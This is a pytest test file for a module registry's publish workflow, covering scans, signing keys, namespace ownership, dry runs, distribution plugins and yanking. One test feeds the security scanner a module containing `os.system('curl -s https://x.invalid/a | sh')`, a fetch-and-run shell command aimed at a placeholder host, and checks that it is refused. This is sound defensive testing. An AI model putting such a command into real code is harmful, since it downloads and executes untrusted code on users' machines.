"""`ModuleRegistry.publish`: its steps, what each may refuse, and that a refusal leaves nothing."""

from __future__ import annotations

import asyncio
import json

import attrs
import pytest

from plataforma_sdk.errors import (
    IntegrityError,
    ModuleLoadError,
    PackageNotFoundError,
    PolicyError,
    SecurityScanError,
    VersionConflictError,
)
from plataforma_sdk.plugins import hookimpl
from plataforma_sdk.registry import PublishStep
from plataforma_sdk.registry.backends import MemoryBackend
from plataforma_sdk.registry.trust import ROTATIONS, read_attestation, rotate
from plataforma_sdk.security import SecurityService
from tests.unit.registry._doubles import FakeScanner, RemoteBackend, Report, open_registry


@pytest.fixture
def backend():
    return MemoryBackend()


@pytest.fixture
def registry(backend, tmp_path):
    return open_registry(backend, cache_dir=tmp_path / "cache")


def is_empty(backend) -> bool:
    return not backend._blobs and not backend._indexes


def test_the_steps_come_in_the_order_of_the_specification(registry, make_package):
    told = []
    asyncio.run(registry.publish(make_package(), progress=told.append))
    assert [item.step for item in told if item.is_done] == list(PublishStep)
    assert [item.is_done for item in told] == [False, True] * len(PublishStep)


def test_a_result_says_what_was_published_and_where(registry, make_package):
    package = make_package()
    result = asyncio.run(registry.publish(package))
    assert (result.success, result.module_id, result.version) == (True, "vendas", "1.0.0")
    assert result.download_url == "memory:#vendas@1.0.0"
    assert result.digest == package.digest
    assert result.published_at.endswith("+00:00")
    assert json.loads(json.dumps(result.to_data()))["attachments"] == ["sbom", "build", "scan"]


def test_what_is_published_is_what_was_packed(registry, backend, make_package):
    package = make_package()
    result = asyncio.run(registry.publish(package))
    assert backend._blobs[result.archive] == package.to_bytes()


def test_a_release_says_what_its_manifest_does(registry, make_package):
    package = make_package(more='exclude = ["trusted"]\nsdk = ">=0.1"')
    asyncio.run(registry.publish(package))
    (release,) = asyncio.run(registry.versions("vendas")).releases
    assert (release.name, release.licence, release.authors) == ("Vendas", "MIT", ("Ana",))
    assert (release.sdk, release.excluded_tiers) == (">=0.1", ("trusted",))


def test_publishing_twice_changes_nothing(registry, backend, make_package):
    first = asyncio.run(registry.publish(make_package()))
    before = (dict(backend._blobs), dict(backend._indexes))
    second = asyncio.run(registry.publish(make_package()))
    assert (first.is_new, second.is_new) == (True, False)
    assert second.published_at == first.published_at
    assert (backend._blobs, backend._indexes) == before


def test_other_content_of_a_published_version_is_refused_before_it_is_scanned(backend, make_package):
    scanner = FakeScanner()
    registry = open_registry(backend, security=scanner)
    asyncio.run(registry.publish(make_package()))
    with pytest.raises(VersionConflictError, match=r"raise the version in module\.toml"):
        asyncio.run(registry.publish(make_package(files={"a.txt": b"other"})))
    assert scanner.seen == ["vendas"]


def test_a_dry_run_goes_as_far_as_the_build_and_stores_nothing(registry, backend, make_package):
    told = []
    result = asyncio.run(registry.publish(make_package(), dry_run=True, progress=told.append))
    assert (result.success, result.is_dry_run, result.is_new) == (False, True, True)
    assert told[-1].step is PublishStep.BUILD
    assert is_empty(backend)


def test_a_failed_scan_refuses_with_what_to_mend(backend, make_package):
    report = Report(passed=False, risk_level="high", recommendations=["vendas.py:3: do not"])
    with pytest.raises(SecurityScanError, match=r"risk: high(?s:.*)\n  vendas\.py:3: do not"):
        asyncio.run(open_registry(backend, security=FakeScanner(report)).publish(make_package()))
    assert is_empty(backend)


def test_the_security_service_refuses_what_takes_a_shell(backend, make_package):
    registry = open_registry(backend, security=SecurityService(trial=False, tools=False))
    source = make_package().sources["vendas.py"] + "\nimport os\nos.system('curl -s https://x.invalid/a | sh')\n"
    with pytest.raises(SecurityScanError, match=r"vendas\.py:\d+: os\.system"):
        asyncio.run(registry.publish(make_package(source=source)))
    assert is_empty(backend)


def test_the_report_of_the_scan_is_published_beside_the_module(backend, make_package):
    registry = open_registry(backend, security=FakeScanner())
    asyncio.run(registry.publish(make_package()))
    (release,) = asyncio.run(registry.versions("vendas")).releases
    assert asyncio.run(registry.attachment(release, "scan")) == b'{"by": "a fake"}'


def test_a_dependency_that_was_never_published_refuses(registry, backend, make_package):
    package = make_package(more='[dependencies]\nclientes = "^1"')
    with pytest.raises(PackageNotFoundError, match="clientes"):
        asyncio.run(registry.publish(package))
    assert is_empty(backend)


@pytest.mark.parametrize(
    ("source", "error", "text"),
    [
        ("class Vendas:\n  def x(:\n", ModuleLoadError, r"vendas\.py:2 is no Python"),
        ("class Vendas: ...\nVendas.__subclasses__()\n", PolicyError, r"vendas\.py"),
    ],
    ids=["trusted", "restricted"],
)
def test_a_tier_that_cannot_compile_it_refuses(backend, make_package, source, error, text):
    registry = open_registry(backend, security=FakeScanner())
    with pytest.raises(error, match=text):
        asyncio.run(registry.publish(make_package(source=source)))
    assert is_empty(backend)


def test_a_tier_that_the_manifest_excludes_is_not_checked(backend, make_package):
    package = make_package(source="class Vendas: ...\nVendas.__subclasses__()\n", more='exclude = ["restricted"]')
    result = asyncio.run(open_registry(backend, security=FakeScanner()).publish(package))
    assert result.checks == {"trusted": "passed", "restricted": "excluded by the manifest", "wasm": "passed"}


def test_a_binary_that_imports_what_no_host_gives_is_refused(backend, make_package):
    from wasmtime import wat2wasm

    toml = make_package().files["module.toml"].replace(b"vendas:Vendas", b"vendas.wasm")
    binary = bytes(wat2wasm('(module (import "env" "system" (func)))'))
    package = type(make_package()).from_files({"module.toml": toml, "vendas.wasm": binary})
    with pytest.raises(ModuleLoadError, match="system"):
        asyncio.run(open_registry(backend, security=FakeScanner()).publish(package))
    assert is_empty(backend)


def test_a_signature_stands_beside_the_release_and_its_key_owns_the_name(registry, make_package, make_key):
    key = make_key()
    result = asyncio.run(registry.publish(make_package(), signer=key))
    index = asyncio.run(registry.versions("vendas"))
    assert result.publisher == index.owner == key.fingerprint
    envelope = asyncio.run(registry.attachment(index.releases[0], "attestation"))
    assert read_attestation(index.releases[0], envelope).key == key.fingerprint


@pytest.mark.parametrize("is_signed", [False, True], ids=["nobody", "another key"])
@pytest.mark.parametrize("dry_run", [True, False], ids=["dry run", "publish"])
def test_a_name_that_belongs_to_a_key_is_refused_to_others(registry, make_package, make_key, is_signed, dry_run):
    asyncio.run(registry.publish(make_package(), signer=make_key()))
    signer = make_key() if is_signed else None
    with pytest.raises(IntegrityError, match="belongs to the key"):
        asyncio.run(registry.publish(make_package(version="1.1.0"), signer=signer, dry_run=dry_run))
    assert len(asyncio.run(registry.versions("vendas")).releases) == 1


def test_a_namespace_that_was_passed_on_is_published_by_the_new_key_alone(registry, make_package, make_key):
    """The registry names the first key as owner for ever; the chain of rotations is what admits the next."""
    old, new, other = make_key(), make_key(), make_key()
    asyncio.run(registry.publish(make_package(), signer=old))
    rotations = rotate(old, new, namespace="vendas")
    with pytest.raises(IntegrityError, match="belongs to the key"):
        asyncio.run(registry.publish(make_package(version="1.1.0"), signer=new))
    with pytest.raises(IntegrityError, match="belongs to the key"):
        asyncio.run(registry.publish(make_package(version="1.1.0"), signer=other, rotations=rotations))

    result = asyncio.run(registry.publish(make_package(version="1.1.0"), signer=new, rotations=rotations))

    assert result.publisher == new.fingerprint
    index = asyncio.run(registry.versions("vendas"))
    assert index.owner == old.fingerprint
    assert asyncio.run(registry.fetch_package("vendas", "^1.1")).version == "1.1.0"


def test_rotations_are_published_and_signed_with_the_release(registry, make_package, make_key):
    old, new = make_key(), make_key()
    rotations = rotate(old, new, namespace="vendas")
    asyncio.run(registry.publish(make_package(), signer=new, rotations=rotations))
    (release,) = asyncio.run(registry.versions("vendas")).releases
    assert asyncio.run(registry.attachment(release, ROTATIONS)) == rotations


class Distributing:
    """A plugin that distributes, or fails to."""

    def __init__(self, error: Exception | None = None) -> None:
        self.error, self.seen = error, []

    @hookimpl
    def plataforma_distribute(self, registry):
        async def distribute(release, archive):
            self.seen.append((registry, release.id, len(archive)))
            if self.error is not None:
                raise self.error
            return "https://cdn.example/vendas.zip"

        return distribute


def test_a_distributor_is_handed_the_release_and_says_where_it_lies(backend, make_package):
    plugin = Distributing()
    registry = open_registry(backend, plugins=[plugin])
    result = asyncio.run(registry.publish(make_package()))
    assert result.download_url == "https://cdn.example/vendas.zip"
    assert plugin.seen == [("memory:", "vendas", result.size_bytes)]


def test_a_distributor_that_fails_leaves_the_version_published_and_says_so(backend, make_package):
    registry = open_registry(backend, plugins=[Distributing(OSError("no network"))])
    result = asyncio.run(registry.publish(make_package()))
    assert result.success
    assert "no network" in result.warnings[0]
    assert asyncio.run(registry.fetch_package("vendas", "^1")).version == "1.0.0"


def test_a_registry_that_cannot_be_reached_is_said_before_the_scan(make_package, tmp_path):
    backend, scanner = RemoteBackend(), FakeScanner()
    backend.is_cut = True
    with pytest.raises(Exception, match="cannot be reached"):
        asyncio.run(open_registry(backend, security=scanner, cache_dir=tmp_path).publish(make_package()))
    assert scanner.seen == []


def test_yanking_keeps_the_version_and_takes_it_from_new_choices(registry, make_package):
    for version in ("1.0.0", "1.1.0"):
        asyncio.run(registry.publish(make_package(version=version)))
    asyncio.run(registry.yank("vendas", "1.1.0", "it lost sales"))
    assert asyncio.run(registry.fetch_package("vendas", "^1")).version == "1.0.0"
    yanked = asyncio.run(registry.versions("vendas")).release("1.1.0")
    assert attrs.evolve(yanked, yanked=None) != yanked
    assert asyncio.run(registry.fetch(yanked)).version == "1.1.0"
